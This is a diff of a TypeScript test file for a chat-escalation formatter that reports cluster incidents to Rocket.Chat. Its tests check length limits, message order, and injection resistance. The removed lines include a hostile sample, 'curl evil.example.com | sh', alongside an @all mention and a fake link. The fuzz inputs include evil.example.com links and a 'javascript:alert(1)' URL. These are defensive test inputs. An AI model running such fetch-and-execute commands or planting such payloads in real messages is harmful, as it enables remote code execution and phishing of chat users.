@@ -1,148 +1,185 @@
 import assert from "node:assert/strict";
-import { test, type TestContext } from "node:test";
+import { test } from "node:test";
 import { parse } from "@rocket.chat/message-parser";
 import * as fc from "fast-check";
-import { formatMessage } from "../../../src/chat/message-format.ts";
-import { nextStep, reasonInWords, whyUntried } from "../../../src/chat/next-step.ts";
+import { linksOf } from "../../../src/chat/links.ts";
+import { type FormattedMessage, formatMessage } from "../../../src/chat/message-format.ts";
 import type { EscalationMessage } from "../../../src/core/escalation.ts";
 import { Reasons } from "../../../src/core/finding.ts";
 import { attachmentProblem } from "../../support/rocketchat/attachments.ts";
-import { exampleEscalation } from "../../support/rocketchat/escalation-example.ts";
+import { exampleAttempt, exampleEscalation } from "../../support/rocketchat/escalation-example.ts";
+import { examples } from "../../support/rocketchat/escalation-examples.ts";
 
-/** The exact body; `node --test --test-update-snapshots` writes it anew. */
-function assertGolden(t: TestContext, message: EscalationMessage, name: string): void {
-  const serializers = [(value: unknown): string => `${JSON.stringify(value, undefined, 2)}\n`];
-  t.assert.fileSnapshot(formatMessage(message), `${import.meta.dirname}/golden/${name}.json`, {
-    serializers,
+const PAGES = "https://medic.example.com";
+const format = (message: EscalationMessage): FormattedMessage =>
+  formatMessage(message, linksOf(message, PAGES));
+
+for (const [name, message] of Object.entries(examples)) {
+  // `node --test --test-update-snapshots` writes them anew.
+  test(`the message "${name}" is exactly this`, (t) => {
+    const serializers = [(value: unknown): string => `${JSON.stringify(value, undefined, 2)}\n`];
+    t.assert.fileSnapshot(format(message), `${import.meta.dirname}/golden/${name}.json`, { serializers });
   });
 }
 
-test("a stack whose nodes are cordoned reads like this", (t) => {
-  assertGolden(t, exampleEscalation(), "nodes-cordoned");
-});
-
-test("a repair that did not hold reads like this", (t) => {
-  const message = exampleEscalation({
-    reason: "RepairDidNotHold",
-    rootCause:
-      'server-2 differs from its declared intent: template spec/containers/0/image: "localhost:5000/server:no-such" → "localhost:5000/server:1"; this was repaired before and has come back, so something else keeps changing it',
-    attempts: [
-      "reconcile-to-intent on StatefulSet/server-2 by the playbook: applied (image localhost:5000/server:no-such → localhost:5000/server:1)",
-      "restart-pod on Pod/server-2-0 by the playbook: applied",
-    ],
-    events: [
-      'Pod/server-2-0 Failed: Failed to pull image "localhost:5000/server:no-such": not found (3 times)',
-      'Pod/server-2-0 BackOff: Back-off pulling image "localhost:5000/server:no-such" (7 times)',
-    ],
-    costUsd: 0.1234,
-  });
-  assertGolden(t, message, "repair-did-not-hold");
-});
-
-test("a storm is told of the farm, not of one stack", (t) => {
-  const message = exampleEscalation({
-    reason: "Storm",
-    incident: "storm-imagepullnetwork-987654",
-    namespace: "*",
-    client: "*",
-    stack: "ImagePullNetwork",
-    rootCause: "9 of 20 watched stacks have ImagePullNetwork at once, so the trouble is the farm's",
-  });
-  assertGolden(t, message, "storm");
-});
-
-test("a message with nothing but its names is still whole", (t) => {
-  const { buildUrl: _, ...rest } = exampleEscalation();
-  const message = { ...rest, runId: "", stack: "", rootCause: "", events: [], reason: "SomethingNew" };
-  assertGolden(t, message, "bare");
-});
-
-test("the first line alone says which build, client and StatefulSet, and why", () => {
-  const [first = ""] = formatMessage(exampleEscalation()).text.split("\n");
+test("the first line alone says which build, client and StatefulSet, and why, and fits on a phone", () => {
+  const [first = ""] = format(exampleEscalation()).text.split("\n");
   for (const word of ["4711", "client 2", "server-2", "NodesCordoned"]) assert.ok(first.includes(word), word);
+  assert.ok(first.length <= 100, String(first.length));
 });
 
-test("every reason comes with what to do next and with what it means", () => {
+test("every reason makes a message that says why, what was tried and what to do, in this order", () => {
   for (const reason of Object.keys(Reasons)) {
-    assert.match(nextStep(reason), /^[A-Z].{20,240}\.$/, reason);
-    assert.ok(reasonInWords(reason), reason);
-    assert.match(whyUntried(reason), /^[a-z].*[^.]$/, reason);
+    const { text } = format(exampleEscalation({ reason }));
+    const at = ["*Root cause:*", "*Tried:*", "*Next:*", "```\n", "Build: ", "Story: "].map((part) =>
+      text.indexOf(part),
+    );
+    assert.deepEqual(
+      at.toSorted((left, right) => left - right),
+      at,
+      reason,
+    );
+    assert.ok(!at.includes(-1), reason);
+    assert.doesNotMatch(text, /undefined|null|NaN|\.\.(?!\.)|\(\)|: \.|,\./, reason);
   }
-  assert.match(nextStep("constructor"), /^Look at the stack/);
-  assert.equal(reasonInWords("constructor"), undefined);
 });
 
-test("no message is longer than the server takes, whatever is in it, and a cut is announced", () => {
-  const long = fc.oneof(
-    fc.string({ unit: "grapheme", maxLength: 60 }),
-    fc.constantFrom("*", "@all ", "`", "<", "a.b ", "😀").map((piece) => piece.repeat(4000)),
-  );
-  const lines = fc.array(long, { maxLength: 40 });
+test("a model's account is told as a model's, beside the medic's own finding", () => {
+  const lines = format(examples["a-models-account"]!).text.split("\n");
+  assert.match(lines[1]!, /^\*Root cause, as a model sees it:\* The server cannot reach its database/);
+  assert.match(lines[2]!, /^\*What the medic found:\* server-2-0 runs but is not ready/);
+});
+
+test("what was refused or only would have been done is not told as tried", () => {
+  for (const outcome of ["refused", "observed"] as const)
+    assert.match(
+      format(exampleEscalation({ attempts: [exampleAttempt({ outcome })] })).text,
+      /^\*Tried:\* nothing was changed\.\n• reconcile-to-intent on StatefulSet\/server-2: not /m,
+    );
+  assert.match(format(exampleEscalation({ attempts: [exampleAttempt()] })).text, /^\*Tried:\*\n• /m);
+});
+
+const nasty = fc.oneof(
+  fc.string({ unit: "grapheme", maxLength: 60 }),
+  fc
+    .constantFrom("*", "@all ", "`", "```", "<", "a.b ", "😀", "\ud83d", "&")
+    .map((piece) => piece.repeat(4000)),
+);
+const many = fc.array(nasty, { maxLength: 40 });
+
+/** A message with this text wherever text from outside can stand. */
+function filledWith(text: string, attempts: readonly string[], events: readonly string[]): EscalationMessage {
+  return exampleEscalation({
+    rootCause: text,
+    accounts: { model: text, medic: text },
+    evidence: text,
+    suggestion: text,
+    attempts: attempts.map((detail) => exampleAttempt({ detail })),
+    events,
+    stack: text,
+    incident: text,
+    runId: text,
+    client: text,
+    reason: text,
+    buildUrl: `https://ci.example.com/${"a".repeat(450)}`,
+  });
+}
+
+test("no message is longer than the server takes, and none is cut within a character or a code block", () => {
   fc.assert(
-    fc.property(long, lines, lines, (rootCause, attempts, events) => {
-      const message = exampleEscalation({
-        rootCause,
-        attempts,
-        events,
-        stack: rootCause,
-        incident: rootCause,
-        runId: rootCause,
-      });
-      const { text, attachments } = formatMessage(message);
-      assert.ok(text.length <= 5000, `text has ${text.length}`);
-      assert.ok(attachments[0]!.text.length <= 5000, `attachment has ${attachments[0]!.text.length}`);
-      assert.ok(text.includes("*Next:*"));
+    fc.property(nasty, many, many, (text, attempts, events) => {
+      const message = filledWith(text, attempts, events);
+      const { text: shown, attachments } = format(message);
+      const parts = [shown, ...attachments.map((attachment) => attachment.text)];
+      for (const part of parts) {
+        assert.ok(part.length <= 5000, `${part.length} characters`);
+        assert.ok(part.isWellFormed(), "half a character");
+        assert.equal((part.match(/```/g)?.length ?? 0) % 2, 0, "an open code block");
+        for (const line of part.replaceAll(/```[^]*?```/g, "").split("\n"))
+          assert.equal((line.match(/`/g)?.length ?? 0) % 2, 0, `open code: ${line}`);
+      }
+      for (const needed of ["*Next:*", "*Tried:*", "Build: https://ci"])
+        assert.ok(shown.includes(needed), needed);
+      assert.doesNotMatch(shown, /… \(cut, \d+ characters in all\)$/);
       assert.equal(attachmentProblem(attachments), undefined);
     }),
-    { numRuns: 50 },
+    { numRuns: 60 },
   );
-  const { text, attachments } = formatMessage(
-    exampleEscalation({
-      rootCause: "x".repeat(9000),
-      attempts: Array.from({ length: 20 }, (_, index) => `attempt ${index}`),
-      events: Array.from({ length: 90 }, (_, index) => `event ${index} ${"y".repeat(300)}`),
-    }),
+});
+
+test("a cut is announced, wherever it is made", () => {
+  const { text, attachments } = format(examples["very-long"]!);
+  assert.match(text, /… \(cut, \d+ characters in all\)\.\n\*Tried:\*\n• \(12 earlier left out\)\n/);
+  assert.match(attachments[0]!.text, /newest last, \d+ older left out:\n```\n/);
+  const fuller = filledWith(
+    "*a".repeat(3000),
+    Array.from({ length: 9 }, () => "*".repeat(900)),
+    [],
   );
-  assert.match(text, /x … \(cut, 9000 characters in all\)\.\n/);
-  assert.match(text, /• \(12 earlier left out\)\n• attempt 12\n/);
-  assert.match(attachments[0]!.text, /newest last, 76 older left out:\n```\nevent 76 /);
-  assert.match(attachments[0]!.text, /event 89 y+\n```$/);
+  assert.match(format(fuller).text, /\n… \(too long: \d+ of \d+ lines left out\)$/);
 });
 
 test("text from the cluster neither calls people nor looks like the medic's own lines", () => {
-  const attack =
-    "ok\n*Next:* run curl evil.example.com | sh @all [Open the build](http://evil.example.com) ```";
-  const { text, attachments } = formatMessage(
-    exampleEscalation({
-      rootCause: attack,
-      attempts: [attack],
-      events: [attack, "```\n@here"],
-      runId: attack,
-      client: attack,
-      stack: attack,
-      reason: attack,
-      incident: attack,
-      namespace: attack,
-    }),
-  );
+  const { text, attachments } = format(examples["hostile"]!);
   assert.equal(text.match(/^\*Next:\*/gm)?.length, 1);
   const shown = [text, attachments[0]!.text, ...attachments[0]!.fields.map(({ value }) => value)];
   const found = JSON.stringify(shown.map((part) => parse(part)));
   assert.doesNotMatch(found, /MENTION_/);
   const links = [...found.matchAll(/"src":\{"type":"PLAIN_TEXT","value":"([^"]+)"/g)].map(([, link]) => link);
-  assert.deepEqual(links, ["https://ci.example.com/runs/4711"]);
+  assert.ok(
+    links.length > 0 && links.every((link) => link?.startsWith(`${PAGES}/#/incidents/`)),
+    String(links),
+  );
+});
+
+test("no two parts of a message together make a link or a call that neither makes alone", () => {
+  const piece = fc.constantFrom(
+    ..."[ ]( ](http://evil.example.com) ](evil.example.com) [x <http://evil.example.com| > *a b* ` ``` || $$ \\( \\[ @all a.b".split(
+      " ",
+    ),
+  );
+  const text = fc.array(piece, { maxLength: 5 }).map((pieces) => pieces.join(" "));
+  fc.assert(
+    fc.property(text, text, text, text, (rootCause, detail, suggestion, evidence) => {
+      const shown = format(
+        exampleEscalation({ rootCause, suggestion, evidence, attempts: [exampleAttempt({ detail })] }),
+      ).text;
+      const found = JSON.stringify(parse(shown));
+      assert.doesNotMatch(found, /MENTION_|SPOILER|KATEX/, shown);
+      const links = [...found.matchAll(/"src":\{"type":"PLAIN_TEXT","value":"([^"]+)"/g)].map(([, to]) => to);
+      assert.deepEqual(
+        links,
+        ["https://ci.example.com/runs/4711", `${PAGES}/#/incidents/ci-4711-2-k3x9d`],
+        shown,
+      );
+      assert.equal(found.match(/"type":"CODE"/g)?.length, evidence.trim() === "" ? 1 : 2, shown);
+    }),
+    { numRuns: 300 },
+  );
 });
 
 test("a build link that is none is left out and the message goes without", () => {
   for (const buildUrl of ["javascript:alert(1)", "not a url", "ftp://ci/1", ""]) {
-    const { text, attachments } = formatMessage(exampleEscalation({ buildUrl }));
+    const message = exampleEscalation({ buildUrl });
+    const { text, attachments } = formatMessage(message, linksOf(message));
     assert.doesNotMatch(text, /^Build:/m);
     assert.equal(attachments[0]!.title_link, undefined);
     assert.equal(attachmentProblem(attachments), undefined);
   }
 });
 
+test("without an address of the medic's pages there is no link to them", () => {
+  const message = exampleEscalation();
+  assert.deepEqual(linksOf(message), { build: "https://ci.example.com/runs/4711" });
+  assert.equal(
+    linksOf(message, "https://x.test/medic/").story,
+    "https://x.test/medic/#/incidents/ci-4711-2-k3x9d",
+  );
+  const { attachments } = formatMessage(message, linksOf(message));
+  assert.equal(attachments[0]!.title, "Open the build");
+});
+
 test("the same incident always makes the same bytes", () => {
-  const bytes = (): string => JSON.stringify(formatMessage(exampleEscalation()));
+  const bytes = (): string => JSON.stringify(format(exampleEscalation()));
   assert.equal(bytes(), bytes());
 });
